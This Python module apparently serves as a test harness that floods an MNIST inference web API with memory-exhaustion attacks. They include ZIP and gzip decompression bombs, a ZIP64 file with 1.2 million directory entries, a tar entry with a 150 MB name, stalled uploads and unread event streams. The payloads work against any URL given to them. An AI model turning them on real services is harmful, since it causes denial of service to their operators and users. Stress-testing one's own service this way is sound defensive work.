"""Attacks on the memory of web_api, against any base URL that serves mnist."""

from __future__ import annotations

import gzip
import io
import json
import socket
import struct
import tarfile
import threading
import time
import zipfile
from typing import Callable
from urllib.parse import urlsplit

import requests

MIB = 1 << 20
TIMEOUT = 20

# Four bytes a character, and as many characters as a name may have.
LONG_NAME = "\U0001f600" * 190


def post(url: str, path: str, body: bytes, media_type: str, **headers: str) -> requests.Response | None:
    """The response, or nothing where the connection is closed or nothing comes in time."""
    headers = {name.replace("_", "-"): value for name, value in headers.items()} | {"Content-Type": media_type}
    try:
        return requests.post(f"{url}{path}", data=body, headers=headers, timeout=TIMEOUT)
    except requests.RequestException:
        return None


def at_once(count: int, run: Callable[[int], object]) -> None:
    running = [threading.Thread(target=run, args=(number,)) for number in range(count)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()


def blank_zip(length: int) -> bytes:
    """A ZIP of one "image" of zeros, a thousandth of its length."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as writer:
        writer.writestr("a.png", bytes(length))
    return archive.getvalue()


def form_of(files: list[tuple[str, bytes]]) -> bytes:
    body = io.BytesIO()
    for name, content in files:
        body.write(f'--b\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\n'.encode())
        body.write(content + b"\r\n")
    body.write(b"--b--\r\n")
    return body.getvalue()


def archives_in_one_form(url: str) -> None:
    """0.7 MB that would unpack to 720 MB, four times at once."""
    body = form_of([(f"{number}.zip", blank_zip(60 * MIB)) for number in range(12)])
    at_once(4, lambda _: post(url, "/jobs?model=mnist", body, "multipart/form-data; boundary=b"))


def list_of_noise(url: str) -> None:
    """Millions of elements in a list for a job."""
    for length in (10 * MIB, 60 * MIB):
        post(url, "/jobs?model=mnist", b"[" + b"1," * (length // 2) + b"1]", "application/json")


def long_names(count: int) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as writer:
        for number in range(count):
            writer.writestr(f"{LONG_NAME}{number}.png", b"x")
    return archive.getvalue()


def opened(url: str) -> socket.socket:
    address = urlsplit(url)
    return socket.create_connection((address.hostname, address.port or 80), timeout=TIMEOUT)


def event_streams(url: str) -> None:
    """A hundred clients that listen to a job of 9,000 long names, and do not read."""
    accepted = post(url, "/jobs?model=mnist", long_names(9000), "application/zip")
    if accepted is None or not accepted.ok:
        return
    path = f"/jobs/{accepted.json()['id']}/events"
    streams = []
    try:
        for _ in range(100):
            stream = opened(url)
            stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\n\r\n".encode())
            streams.append(stream)
        time.sleep(5)
    except OSError:
        pass
    finally:
        for stream in streams:
            stream.close()
    try:
        requests.delete(f"{url}/jobs/{accepted.json()['id']}", timeout=TIMEOUT)
    except requests.RequestException:
        pass


def packed_bodies(url: str) -> None:
    """Sixteen clients send 65 KB that unpack to 64 MB, for eight seconds."""
    body, until = gzip.compress(b" " * (63 * MIB)), time.monotonic() + 8

    def send(_: int) -> None:
        while time.monotonic() < until:
            post(url, "/v2/models/mnist/infer", body, "application/json", Content_Encoding="gzip")

    at_once(16, send)


def jobs_of_long_names(url: str) -> None:
    """Sixty jobs of 10,000 inputs that are wrong at first sight, each with a long name."""
    line = json.dumps({"id": LONG_NAME, "inputs": []}, ensure_ascii=False).encode() + b"\n"
    body, until = line * 10_000, time.monotonic() + 15

    def send(_: int) -> None:
        for _ in range(15):
            if time.monotonic() < until:
                post(url, "/jobs?model=mnist", body, "application/x-ndjson")

    at_once(4, send)


def stalled(url: str, count: int, source: str = "") -> list[socket.socket]:
    """Uploads of 60 MB that stop after 40."""
    uploads = []
    for _ in range(count):
        address = urlsplit(url)
        upload = socket.create_connection((address.hostname, address.port or 80), TIMEOUT, (source, 0) if source else None)
        head = f"POST /predict/mnist HTTP/1.1\r\nHost: {address.netloc}\r\nContent-Type: image/png\r\nContent-Length: {60 * MIB}\r\n\r\n"
        try:
            upload.sendall(head.encode())
            for _ in range(40):
                upload.sendall(bytes(MIB))
        except OSError:
            pass
        uploads.append(upload)
    return uploads


def stalled_uploads(url: str) -> None:
    """Four uploads that stall, which is more than all memory for bodies."""
    uploads = stalled(url, 4)
    time.sleep(12)
    for upload in uploads:
        upload.close()


def zip_of_entries(count: int) -> bytes:
    """A ZIP64 that is nearly all directory: `count` entries of 47 bytes, without any data."""
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * count
    at, size = len(local), len(directory)
    end64 = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, at)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at + size, 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + directory + end64 + locator + end


def directory_of_a_zip(url: str) -> None:
    """1.2 million entries."""
    body = zip_of_entries(1_200_000)
    at_once(2, lambda _: post(url, "/jobs?model=mnist", body, "application/zip"))


class Zeros(io.RawIOBase):
    """So many bytes, without memory for them."""

    def __init__(self, length: int):
        self.left = length

    def read(self, length: int = -1) -> bytes:
        length = min(self.left, MIB if length < 0 else length)
        self.left -= length
        return b"n" * length


def name_of_a_tar_entry(url: str) -> None:
    """A TAR in gzip whose first entry has a name of 150 MB."""
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=1) as file:
        header = tarfile.TarInfo("././@LongLink")
        header.type, header.size = tarfile.GNUTYPE_LONGNAME, 150 * MIB
        file.write(header.tobuf(tarfile.GNU_FORMAT))
        name = Zeros(header.size)
        while piece := name.read():
            file.write(piece)
        file.write(tarfile.TarInfo("a.png").tobuf() + bytes(1024))
    at_once(2, lambda _: post(url, "/jobs?model=mnist", packed.getvalue(), "application/gzip"))


ATTACKS = {
    "H2 twelve archives in one form": archives_in_one_form,
    "H3 a list of millions": list_of_noise,
    "H4 a hundred event streams of long names": event_streams,
    "H5 packed bodies of sixteen clients": packed_bodies,
    "H12 sixty jobs of long names": jobs_of_long_names,
    "W2 stalled uploads": stalled_uploads,
    "W5 a ZIP of 1.2 million entries": directory_of_a_zip,
    "W5 a TAR entry with a name of 150 MB": name_of_a_tar_entry,
}
